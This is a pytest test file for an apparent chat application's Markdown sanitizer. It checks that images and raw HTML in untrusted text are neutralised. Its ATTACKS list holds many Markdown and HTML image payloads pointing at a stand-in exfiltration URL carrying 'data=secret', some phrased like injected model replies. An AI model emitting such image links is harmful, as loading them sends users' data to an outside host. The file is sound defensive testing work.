"""Untrusted Markdown is shown without images or raw HTML; names and titles as plain text."""

from __future__ import annotations

import html

import pytest
from markdown_it import MarkdownIt
from mdit_py_plugins.footnote import footnote_plugin

from chatapp.ui.safe_text import has_remote_content, plain_text, safe_markdown

EXFIL = "http://127.0.0.1:9/exfil?data=secret"
RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"]).use(footnote_plugin)

ATTACKS = [
    f"Sure! ![x]({EXFIL})",
    f'![x]({EXFIL} "title")',
    f"> quoted from a document ![x]({EXFIL})",
    f"- a list item ![x]({EXFIL})\n  - nested ![y]({EXFIL})",
    f"| a | b |\n|---|---|\n| ![x]({EXFIL}) | ok |",
    f"# heading ![x]({EXFIL})",
    f"heading\n![x]({EXFIL})\n===",
    f"[![badge]({EXFIL})](https://example.com)",
    f"![![inner]({EXFIL})]({EXFIL})",
    f"reference ![x][r]\n\n[r]: {EXFIL}",
    "collapsed ![r][]\n\n[r]: " + EXFIL,
    f"footnote[^1]\n\n[^1]: ![x]({EXFIL})",
    f'<img src="{EXFIL}">',
    f"inline <img src={EXFIL}> html",
    f"<div>\n![x]({EXFIL})\n</div>",
    f'<picture><source srcset="{EXFIL}"></picture>',
    f"a multi-line ![alt\ntext]({EXFIL}) image",
    f"~~struck ![x]({EXFIL})~~ and *emphasis ![y]({EXFIL})*",
    f"same line twice ![x]({EXFIL}) ![x]({EXFIL})\nsame line twice ![x]({EXFIL}) ![x]({EXFIL})",
]


def rendered(markdown: str) -> str:
    return RENDERER.render(markdown)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_image_or_html_survives_in_untrusted_markdown(attack: str) -> None:
    out = rendered(safe_markdown(attack))
    assert "<img" not in out
    assert "<picture" not in out and "<div" not in out and "<source" not in out
    assert not has_remote_content(safe_markdown(attack))


def test_an_image_shows_its_alt_text_and_address_as_text() -> None:
    out = rendered(safe_markdown(f"Look: ![the chart]({EXFIL}) here"))
    assert "the chart" in out
    assert html.escape(EXFIL, quote=False) in out
    assert "image not loaded" in out
    assert "<img" not in out


def test_raw_html_is_shown_as_text() -> None:
    out = rendered(safe_markdown("before <b>bold?</b> after"))
    assert "&lt;b&gt;bold?&lt;/b&gt;" in out


def test_markdown_without_images_or_html_is_left_exactly_as_written() -> None:
    text = "# Title\n\n> quoted\n\n- **bold** item\n1. [link](https://example.com)\n\n| a |\n|---|"
    assert safe_markdown(text) == text


def test_code_spans_and_fenced_code_keep_image_syntax_and_tags_verbatim() -> None:
    text = 'Write `![alt](src)` or `<img>`:\n\n```html\n<img src="a.png">\n![x](y)\n```\n'
    assert safe_markdown(text) == text


def test_ampersand_and_angle_bracket_in_an_auto_linked_url_are_not_escaped() -> None:
    text = "See https://example.com/search?q=a<b&page=2 and <https://example.com/?a=1&b=2>."
    assert safe_markdown(text) == text
    assert "&amp;lt;" not in rendered(safe_markdown(text))


def test_a_link_around_an_image_stays_a_link() -> None:
    out = rendered(safe_markdown(f"[![badge]({EXFIL})](https://example.com)"))
    assert '<a href="https://example.com">' in out
    assert "badge" in out and "<img" not in out


def test_plain_text_renders_as_exactly_the_text_typed() -> None:
    name = f"**Bob** ![x]({EXFIL}) <img src=x> :red[hi] $x$ [^1] # 1. `c`"
    out = rendered(plain_text(name))
    assert out == f"<p>{html.escape(name, quote=False)}</p>\n"


def test_plain_text_keeps_a_name_on_one_line() -> None:
    assert plain_text("Bob\n===\n  and Alice") == "Bob === and Alice"
    assert plain_text(None) == ""


@pytest.mark.parametrize(
    "name",
    [
        "- item",
        "+ item",
        "# title",
        "> quote",
        "1. first",
        "2) second",
        "=== heading",
        "file.name-v2 (final).pdf",
    ],
)
def test_plain_text_neutralises_markers_that_only_count_at_the_start(name: str) -> None:
    assert rendered(plain_text(name)) == f"<p>{html.escape(name, quote=False)}</p>\n"
